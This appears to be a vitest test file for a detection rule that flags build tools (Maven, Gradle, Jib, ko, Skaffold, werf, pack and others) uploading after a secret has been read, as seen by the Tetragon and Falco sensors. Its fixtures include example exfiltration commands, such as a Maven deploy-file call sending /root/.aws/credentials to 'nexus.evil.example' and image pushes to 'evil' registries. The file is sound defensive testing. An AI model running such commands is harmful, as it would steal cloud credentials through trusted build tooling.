/**
 * Build tools that push what they build, which the table lacked: Maven's deploy and Gradle's publish tasks,
 * Jib (Maven goal, Gradle task, CLI), ko, Earthly, Skaffold, werf, DevSpace and pack. With Falco, which
 * reports no byte counts by default, an unrecognised tool's upload of a secret raised nothing; with Tetragon
 * it was caught only past egressPushMinBytes, under the binary's name (`java`). Maven, Gradle and the Jib CLI
 * are scripts that exec a JVM: that JVM, known by its launcher class, is the process that uploads.
 */
import { describe, expect, it } from 'vitest';
import { launchedProgram, quoteWords } from '../../../src/rules/launchers.js';
import { falcoRun } from '../../fixtures/falco/credential-run.js';
import { brief, runResolved } from './builder.js';
import { PUSH_IP as IP, secretThenPush } from './secret-then-push.js';

const JAVA = '/opt/java/openjdk/bin/java';
const MVN_JVM = [
  'java',
  '-classpath',
  '/usr/share/maven/boot/plexus-classworlds-2.8.0.jar',
  '-Dclassworlds.conf=/usr/share/maven/bin/m2.conf',
  '-Dmaven.home=/usr/share/maven',
  '-Dmaven.multiModuleProjectDirectory=/builds/acme/app',
  'org.codehaus.plexus.classworlds.launcher.Launcher',
];
const MVNW_JVM = [
  'java',
  '-classpath',
  '/builds/acme/app/.mvn/wrapper/maven-wrapper.jar',
  '-Dmaven.multiModuleProjectDirectory=/builds/acme/app',
  'org.apache.maven.wrapper.MavenWrapperMain',
];
const GRADLEW_JVM = [
  'java',
  '-Xmx64m',
  '-Xms64m',
  '-Dorg.gradle.appname=gradlew',
  '-classpath',
  '/src/gradle/wrapper/gradle-wrapper.jar',
  'org.gradle.wrapper.GradleWrapperMain',
];

/** Alerts from Tetragon's form (quoted argv) and from Falco's (joined unquoted, with proc.cmdnargs). */
async function bothSensors(binary: string, argv: readonly string[]) {
  const tetragon = brief(secretThenPush(binary, quoteWords(argv.slice(1)), 'tetragon'));
  const falco = brief((await runResolved(falcoRun(binary, argv, IP))).alerts);
  return { tetragon, falco };
}

const high = (tool: string, destination: string) => [
  { rule: 'sensitive-read-then-push', severity: 'high', tool, destination },
];

describe('build tools that push', () => {
  const cases: Array<[string, string[], ReturnType<typeof high>]> = [
    [
      JAVA,
      [
        ...MVN_JVM,
        'deploy:deploy-file',
        '-Dfile=/root/.aws/credentials',
        '-DgroupId=x',
        '-DartifactId=y',
        '-Dversion=1',
        '-Durl=https://nexus.evil.example/repository/raw',
      ],
      high('maven', 'nexus.evil.example'),
    ],
    [
      JAVA,
      [...MVNW_JVM, '-B', 'deploy', '-DaltDeploymentRepository=x::https://maven.pkg.github.com/evil/x'],
      high('maven', 'maven.pkg.github.com'),
    ],
    // A spaced property, as Falco joins it: the goal is still a goal.
    [JAVA, [...MVN_JVM, '-Darguments=-DskipTests -Dgpg.skip', 'release:perform'], high('maven', `${IP}:443`)],
    [JAVA, [...GRADLEW_JVM, '--no-daemon', 'publish'], high('gradle', `${IP}:443`)],
    [
      JAVA,
      ['java', '-jar', '/src/gradle/wrapper/gradle-wrapper.jar', 'jib', '--image=ghcr.io/evil/x'],
      high('jib', 'ghcr.io'),
    ],
    ['/usr/bin/mvn', ['mvn', 'compile', 'jib:build', '-Dimage=quay.io/evil/x'], high('jib', 'quay.io')],
    [
      JAVA,
      [
        'java',
        '-cp',
        '/opt/jib/lib/*',
        'com.google.cloud.tools.jib.cli.JibCli',
        'jar',
        '--target=ghcr.io/evil/x',
        'a.jar',
      ],
      high('jib', 'ghcr.io'),
    ],
    // A workspace path holding a space, which Falco joins unquoted: stray words before the main class or jar.
    [
      JAVA,
      [
        'java',
        '-classpath',
        '/usr/share/maven/boot/plexus-classworlds-2.8.0.jar',
        '-Dmaven.multiModuleProjectDirectory=/var/jenkins_home/workspace/Release Job',
        'org.codehaus.plexus.classworlds.launcher.Launcher',
        'deploy',
      ],
      high('maven', `${IP}:443`),
    ],
    [
      JAVA,
      ['java', '-jar', '/var/jenkins_home/workspace/Release Job/gradle/wrapper/gradle-wrapper.jar', 'publish'],
      high('gradle', `${IP}:443`),
    ],
    // The launcher's options from an @argfile (how IDEs and long classpaths start a JVM): the main class follows.
    [
      JAVA,
      ['java', '@/tmp/gradle-jvm-args', 'org.gradle.wrapper.GradleWrapperMain', 'publish'],
      high('gradle', `${IP}:443`),
    ],
    ['/usr/local/bin/ko', ['ko', 'build', '--bare', './cmd/app'], high('ko', `${IP}:443`)],
    ['/usr/local/bin/skaffold', ['skaffold', 'build', '-d', 'ghcr.io/evil'], high('skaffold', 'ghcr.io')],
    ['/usr/local/bin/werf', ['werf', 'build', '--repo', 'ghcr.io/evil/x'], high('werf', 'ghcr.io')],
    ['/usr/local/bin/devspace', ['devspace', 'deploy', '-n', 'prod'], high('devspace', `${IP}:443`)],
    ['/usr/local/bin/pack', ['pack', 'build', 'ghcr.io/evil/x', '--publish'], high('pack', 'ghcr.io')],
  ];
  for (const [binary, argv, expected] of cases)
    it(`${argv.slice(-2).join(' ')} alerts alike from both sensors`, async () => {
      const { tetragon, falco } = await bothSensors(binary, argv);
      expect(tetragon).toEqual(expected);
      expect(falco).toEqual(expected);
    });

  it('a goal word inside a spaced property is a goal to Falco, which does not quote it (docs/detection.md)', async () => {
    const { tetragon, falco } = await bothSensors(JAVA, [...MVN_JVM, '-Dmsg=run deploy later', 'verify']);
    expect(tetragon).toEqual([]);
    expect(falco.map((a) => a.tool)).toEqual(['maven']);
  });

  it('earthly --push is a push, which its BuildKit uploads (a builder client, as buildctl)', async () => {
    const { tetragon, falco } = await bothSensors('/usr/local/bin/earthly', ['earthly', '--ci', '--push', '+image']);
    expect(tetragon.map((a) => [a.rule, a.tool])).toEqual([['sensitive-read-then-push', 'earthly']]);
    expect(falco).toEqual(tetragon);
  });

  it('a JVM is no launcher by a word that names an Object property (`-jar constructor`)', () => {
    const java = (args: string) => launchedProgram({ binary: JAVA, args });
    expect(java('-jar constructor org.gradle.wrapper.GradleWrapperMain publish')).toBeNull();
    expect(java('-cp x toString org.gradle.wrapper.GradleWrapperMain publish')).toBeNull();
    expect(java('-cp x org.gradle.wrapper.GradleWrapperMain publish')).toEqual({
      binary: '/opt/java/openjdk/bin/gradle',
      args: 'publish',
    });
  });

  // Their everyday CI runs read the same credential and connect (dependency downloads): no alert from either.
  const quiet: Array<[string, string[]]> = [
    [JAVA, [...MVN_JVM, '-B', 'package']],
    [JAVA, [...MVN_JVM, 'clean', 'install']],
    [JAVA, [...MVNW_JVM, 'deploy', '-DaltDeploymentRepository=local::file:./target/staging-deploy']],
    [JAVA, [...GRADLEW_JVM, 'build']],
    [JAVA, [...GRADLEW_JVM, 'publishToMavenLocal']],
    [JAVA, [...GRADLEW_JVM, 'jibDockerBuild']],
    [JAVA, ['java', '-jar', '/app/server.jar', 'publish']],
    [JAVA, ['java', '@/tmp/app-args', 'com.acme.Deployer', 'deploy']],
    [JAVA, ['java', '-cp', '/opt/My App/lib/*', 'com.acme.Main', 'org.gradle.wrapper.GradleWrapperMain', 'publish']],
    [JAVA, ['java', '-jar', '/var/jenkins_home/workspace/Release Job/gradle/wrapper/gradle-wrapper.jar', 'build']],
    ['/usr/bin/mvn', ['mvn', 'compile', 'jib:dockerBuild']],
    ['/usr/local/bin/ko', ['ko', 'build', '--local', './cmd/app']],
    ['/usr/local/bin/ko', ['ko', 'build', '--push=false', '--oci-layout-path', '/tmp/layout', './cmd/app']],
    ['/usr/local/bin/skaffold', ['skaffold', 'dev', '--kube-context', 'kind-kind']],
    ['/usr/local/bin/skaffold', ['skaffold', 'run', '--kube-context', 'kind-ci', '--push']],
    ['/usr/local/bin/skaffold', ['skaffold', 'build', '--push=false']],
    ['/usr/local/bin/earthly', ['earthly', '--ci', '+test']],
    ['/usr/local/bin/werf', ['werf', 'build']],
    ['/usr/local/bin/pack', ['pack', 'build', 'app', '--builder', 'paketobuildpacks/builder-jammy-base']],
  ];
  for (const [binary, argv] of quiet)
    it(`${argv.slice(-2).join(' ')} stays quiet from both sensors`, async () => {
      expect(await bothSensors(binary, argv)).toEqual({ tetragon: [], falco: [] });
    });
});
